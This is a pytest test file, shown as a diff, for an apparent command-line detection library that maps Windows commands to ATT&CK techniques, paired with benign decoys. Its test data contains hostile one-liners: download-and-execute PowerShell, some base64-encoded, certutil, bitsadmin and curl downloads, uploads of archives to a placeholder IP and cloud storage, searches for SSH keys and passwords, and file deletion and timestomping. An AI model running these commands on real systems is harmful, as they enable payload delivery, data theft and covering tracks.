@@ -1,0 +1,174 @@
+"""What commands show, each beside a decoy that looks like it."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from graphcorr.syntax.behaviors import LONGEST, LONGEST_SCRIPT, shown_by, shown_by_script
+
+
+def _told(image: str, line: str) -> list[tuple[str, str | None]]:
+    return [(one.technique, one.object) for one in shown_by(rf"C:\Windows\System32\{image}", line)]
+
+
+def _encoded(code: str) -> str:
+    return base64.b64encode(code.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("image", "line", "technique"),
+    [
+        ("systeminfo.exe", "systeminfo", "T1082"),
+        ("hostname.exe", "hostname", "T1082"),
+        ("cmd.exe", "cmd.exe /Q /c ver", "T1082"),
+        ("wmic.exe", "wmic os get caption", "T1082"),
+        ("wmic.exe", "wmic /node:ws2 computersystem list brief", "T1082"),
+        ("msinfo32.exe", r"msinfo32 /report c:\t\a.txt", "T1082"),
+        ("reg.exe", r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"', "T1082"),
+        ("powershell.exe", "powershell Get-WmiObject Win32_OperatingSystem", "T1082"),
+        ("sc.exe", "sc query type= service", "T1007"),
+        ("sc.exe", r"sc \\ws2 queryex", "T1007"),
+        ("net.exe", "net start", "T1007"),
+        ("net1.exe", r"C:\Windows\system32\net1 start", "T1007"),
+        ("tasklist.exe", "tasklist /svc", "T1007"),
+        ("wmic.exe", "wmic service list brief", "T1007"),
+        ("powershell.exe", "powershell -c Get-Service", "T1007"),
+        ("tasklist.exe", "tasklist /v", "T1057"),
+        ("ipconfig.exe", "ipconfig /all", "T1016"),
+        ("whoami.exe", "whoami", "T1033"),
+        ("whoami.exe", "whoami /groups", "T1069.001"),
+        ("quser.exe", "quser", "T1033"),
+        ("netstat.exe", "netstat -ano", "T1049"),
+        ("net.exe", "net view", "T1018"),
+        ("net.exe", r"net view \\ws2", "T1135"),
+        ("net.exe", 'net group "domain computers" /domain', "T1018"),
+        ("net.exe", 'net group "domain admins" /domain', "T1069.002"),
+        ("net.exe", "net localgroup administrators", "T1069.001"),
+        ("net.exe", "net user /domain", "T1087.002"),
+        ("net.exe", "net user", "T1087.001"),
+        ("nltest.exe", "nltest /domain_trusts", "T1482"),
+        ("nltest.exe", "nltest /dclist:corp", "T1018"),
+        ("cmd.exe", r"cmd /c del /q C:\Windows\Temp\tool.exe", "T1070.004"),
+        ("cmd.exe", r'cmd.exe /c "erase c:\t\a.exe"', "T1070.004"),
+        ("cmd.exe", r"cmd /c ping -n 3 127.0.0.1 >nul & rd /s /q c:\t", "T1070.004"),
+        ("cmd.exe", r"cmd /c if exist c:\t\a.exe del c:\t\a.exe", "T1070.004"),
+        ("sdelete.exe", r"sdelete -p 3 c:\t\a.exe", "T1070.004"),
+        ("reg.exe", r"reg query HKCU\Software\SimonTatham\PuTTY\Sessions", "T1552.004"),
+        ("findstr.exe", r"findstr /si password *.ppk", "T1552.004"),
+        ("cmd.exe", r"cmd /c dir /s /b c:\users\*id_rsa*", "T1552.004"),
+        ("powershell.exe", r"powershell gci -recurse c:\users -include *.pem", "T1552.004"),
+        ("powershell.exe", "powershell -noP -sta -w 1 -enc " + _encoded("exit"), "T1059.001"),
+        ("powershell.exe", r"powershell (gi c:\t\a.exe).LastWriteTime = '01/01/2010'", "T1070.006"),
+        ("powershell.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", "T1105"),
+        ("powershell.exe", "powershell -e " + _encoded("iwr http://203.0.113.7/a | iex"), "T1105"),
+    ],
+)
+def test_a_command_shows_a_technique(image: str, line: str, technique: str) -> None:
+    assert technique in {one for one, _ in _told(image, line)}
+
+
+@pytest.mark.parametrize(
+    ("image", "line"),
+    [
+        ("net.exe", "net start spooler"),
+        ("net.exe", "net user alice Secret1 /add"),
+        ("net.exe", "net localgroup administrators alice /add"),
+        ("net.exe", r"net use z: \\fs1\data"),
+        ("sc.exe", "sc start spooler"),
+        ("sc.exe", "sc create query binPath= c:\\a.exe"),
+        ("wmic.exe", "wmic service call create name=x"),
+        ("wmic.exe", "wmic process call create calc.exe"),
+        ("ipconfig.exe", "ipconfig /flushdns"),
+        ("cmd.exe", "cmd /c echo del c:\\t\\a.exe"),
+        ("cmd.exe", "cmd /c deltree.exe c:\\t"),
+        ("cmd.exe", "cmd /c verify on"),
+        ("cmd.exe", "cmd /c del"),
+        ("cmd.exe", "cmd /c dir c:\\users"),
+        ("cmd.exe", "cmd /c dir id_rsa.pub"),
+        ("notepad.exe", "notepad systeminfo"),
+        ("powershell.exe", "powershell Get-Service spooler | Restart-Service"),
+        ("powershell.exe", "powershell if ($f.LastWriteTime -eq $t) { exit }"),
+        ("powershell.exe", "powershell $f.LastWriteTime == 3"),
+        ("powershell.exe", "powershell -noP -NonI -w hidden -enc " + _encoded("exit")),
+        ("powershell.exe", "powershell iwr http://203.0.113.7/status"),
+        ("reg.exe", r"reg add HKCU\Software\SimonTatham\PuTTY\Sessions /v a"),
+        ("7z.exe", r"7z x c:\t\a.7z"),
+        ("rar.exe", r"rar x c:\t\a.rar"),
+        ("tar.exe", "tar -xf a.tar"),
+        ("certutil.exe", "certutil -verify a.cer"),
+        ("curl.exe", "curl https://example.com/"),
+        ("bitsadmin.exe", "bitsadmin /list"),
+    ],
+)
+def test_what_looks_like_it_shows_nothing(image: str, line: str) -> None:
+    assert _told(image, line) == []
+
+
+@pytest.mark.parametrize(
+    ("image", "line", "technique", "path"),
+    [
+        ("7z.exe", r"7z a -mx9 C:\t\out.7z C:\docs", "T1560.001", r"C:\t\out.7z"),
+        ("7za.exe", r'7za a -pSecret "C:\t\my out.7z" C:\docs', "T1560.001", r"C:\t\my out.7z"),
+        ("rar.exe", r"rar a -r -hpSecret c:\t\out.rar c:\docs", "T1560.001", r"c:\t\out.rar"),
+        ("makecab.exe", r"makecab c:\t\a.dmp c:\t\a.cab", "T1560.001", r"c:\t\a.cab"),
+        ("makecab.exe", r"makecab /D CompressionType=LZX c:\t\a.dmp c:\t\a.cab", "T1560.001", r"c:\t\a.cab"),
+        ("zip.exe", r"zip -r c:\t\a.zip c:\docs", "T1560.001", r"c:\t\a.zip"),
+        ("tar.exe", r"tar -czf c:\t\a.tgz c:\docs", "T1560.001", r"c:\t\a.tgz"),
+        ("powershell.exe", r"powershell Compress-Archive -Path c:\docs -DestinationPath c:\t\a.zip", "T1560.001", r"c:\t\a.zip"),
+        ("certutil.exe", r"certutil -urlcache -split -f http://203.0.113.7/a.exe c:\t\a.exe", "T1105", r"c:\t\a.exe"),
+        ("bitsadmin.exe", r"bitsadmin /transfer j /priority high http://203.0.113.7/a c:\t\a.exe", "T1105", r"c:\t\a.exe"),
+        ("curl.exe", r"curl -s -o c:\t\a.exe http://203.0.113.7/a", "T1105", r"c:\t\a.exe"),
+        ("curl.exe", r"curl http://203.0.113.7/a --output c:\t\a.exe", "T1105", r"c:\t\a.exe"),
+        ("curl.exe", "curl -O http://203.0.113.7/dir/a.exe", "T1105", "a.exe"),
+        ("powershell.exe", r"powershell iwr http://203.0.113.7/a -OutFile c:\t\a.exe", "T1105", r"c:\t\a.exe"),
+        (
+            "powershell.exe",
+            r"powershell (New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a','c:\t\a.exe')",
+            "T1105",
+            r"c:\t\a.exe",
+        ),
+        ("curl.exe", r"curl -T c:\t\out.7z ftp://203.0.113.7/", "T1048", r"c:\t\out.7z"),
+        ("curl.exe", r"curl -F file=@c:\t\out.7z https://203.0.113.7/up", "T1048", r"c:\t\out.7z"),
+        ("rclone.exe", r"rclone copy c:\t\out.7z mega:x", "T1567.002", r"c:\t\out.7z"),
+        (
+            "powershell.exe",
+            r"powershell (New-Object Net.WebClient).UploadFile('https://203.0.113.7/','c:\t\out.7z')",
+            "T1048",
+            r"c:\t\out.7z",
+        ),
+    ],
+)
+def test_the_file_that_a_command_is_about_is_told(image: str, line: str, technique: str, path: str) -> None:
+    assert (technique, path) in _told(image, line)
+
+
+def test_a_password_is_told_by_the_way() -> None:
+    ways = {one.way for one in shown_by("rar.exe", "rar a -hpX out.rar docs")}
+    assert ways == {"made an archive with a password"}
+    assert {one.way for one in shown_by("rar.exe", "rar a out.rar docs")} == {"made an archive"}
+
+
+def test_a_renamed_program_is_told_by_its_makers_name() -> None:
+    line = r"c:\t\r.exe a -hpX out.rar docs"
+    assert shown_by(r"c:\t\r.exe", line) == ()
+    assert [one.object for one in shown_by(r"c:\t\r.exe", line, "WinRAR.exe")] == ["out.rar"]
+    # What is told by its own name is not asked for another.
+    assert shown_by(r"c:\t\sc.exe", "sc start x", "systeminfo.exe") == ()
+
+
+def test_a_command_line_may_leave_its_program_out() -> None:
+    assert [one.technique for one in shown_by(r"c:\w\tasklist.exe", "/svc")] == ["T1007"]
+
+
+def test_a_script_is_looked_at_with_the_commands_encoded_in_it() -> None:
+    told = shown_by_script("Invoke-SessionGopher -Thorough; powershell -enc " + _encoded("Get-ComputerInfo"))
+    assert {one.technique for one in told} == {"T1552.004", "T1082"}
+    assert shown_by_script(None) == ()
+
+
+def test_no_more_than_a_bounded_text_is_looked_at() -> None:
+    assert shown_by_script(" " * LONGEST_SCRIPT + "Get-ComputerInfo") == ()
+    assert shown_by("sc.exe", "sc " + " " * LONGEST + "query") == ()
+    assert LONGEST == 8_191  # what cmd.exe takes
